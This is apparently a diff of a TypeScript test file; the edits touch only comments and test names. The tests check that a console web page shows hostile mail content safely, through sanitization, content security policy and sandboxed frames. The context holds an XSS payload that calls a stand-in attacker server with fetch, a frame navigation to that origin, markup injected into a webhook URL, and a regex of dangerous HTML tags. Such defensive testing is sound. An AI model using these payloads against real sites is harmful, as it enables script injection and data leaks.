@@ -14,7 +14,7 @@ import {
 } from '../../support/service.ts'
 import { waitFor } from '../../support/waitFor.ts'
 
-/** Stands for an attacker's server in these tests. Every request that reaches this server is a data leak. */
+/** Is the server of the attacker in these tests. Every request that reaches this server is a data leak. */
 let evil: Receiver
 /** Returns a hostile script that opens a dialog and calls the attacker's server. */
 const run = () => `alert(1);fetch('${evilOrigin()}/ran')`
@@ -56,7 +56,9 @@ afterAll(async () => {
   await evil?.[Symbol.asyncDispose]()
 })
 
-/** Records the dialogs and windows that a page opens, and clears the recorded requests to the attacker's server. */
+/**
+ * Records which dialogs and windows a page opens, and clears the list of requests that reached the attacker's server.
+ */
 function watch(page: Page): string[] {
   evil.requests.length = 0
   const seen: string[] = []
@@ -69,7 +71,7 @@ function watch(page: Page): string[] {
 }
 
 describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
-  test('hostile content runs and loads outside the console, which proves that this test can detect it', async () => {
+  test('outside the console the hostile content runs and loads, which proves that the test would detect it', async () => {
     const page = await (await browser.newContext()).newPage()
     const seen = watch(page)
     await page.setContent(hostileHtml()).catch(() => {})
@@ -119,7 +121,7 @@ describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
       url: 'https://example.com/',
       events: ['message.received'],
     })
-    // The API would encode the markup in the URL of a webhook, so the test writes to the database.
+    // The API would encode markup in the URL of a webhook, so the test writes the URL directly to the database.
     await service.database.pool.query('update project_webhooks set url = $1', [markup()])
 
     await using console = await openConsole(browser, service)
@@ -182,7 +184,7 @@ describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
       storage: 'SecurityError',
       parent: 'SecurityError',
     })
-    // The `frame-src` directive of the page's content security policy stops the frame from navigating.
+    // The frame cannot navigate, because the `frame-src` directive of the page's content security policy stops it.
     const seen = watch(page)
     await frame.evaluate(`location.href = '${evilOrigin()}/elsewhere'`).catch(() => {})
     await page.getByRole('button', { name: 'Text' }).click()
@@ -194,8 +196,8 @@ describe.skipIf(!hasBrowser)('the console shows hostile content safely', () => {
 
 test('the console removes elements that load, navigate, submit or run from a mail', () => {
   const shown = framedHtml({ html: hostileHtml(), images: [] })
-  // The test leaves style elements out of this comparison, because only the content security policy stops the requests
-  // of a style.
+  // Style elements are left out of this comparison, because only the content security policy stops the requests that
+  // they cause.
   const body = shown.slice(shown.indexOf('<body>')).replace(/<style>[\s\S]*?<\/style>/g, '')
   expect(body).not.toMatch(
     /<(script|iframe|object|embed|link|meta|base|form|video|audio|source)\b/i,
@@ -213,7 +215,7 @@ test('the console shows an inline image of a mail and does not fetch a remote im
   expect(shown).not.toContain('cid:')
 })
 
-test('the console page builds elements without parsing markup and without inline styles or scripts', () => {
+test('the code of the console page never parses markup, and has no inline styles or scripts', () => {
   const folder = join(import.meta.dir, '../../../api/web')
   const files = (readdirSync(folder, { recursive: true }) as string[]).filter((name) =>
     name.endsWith('.ts'),
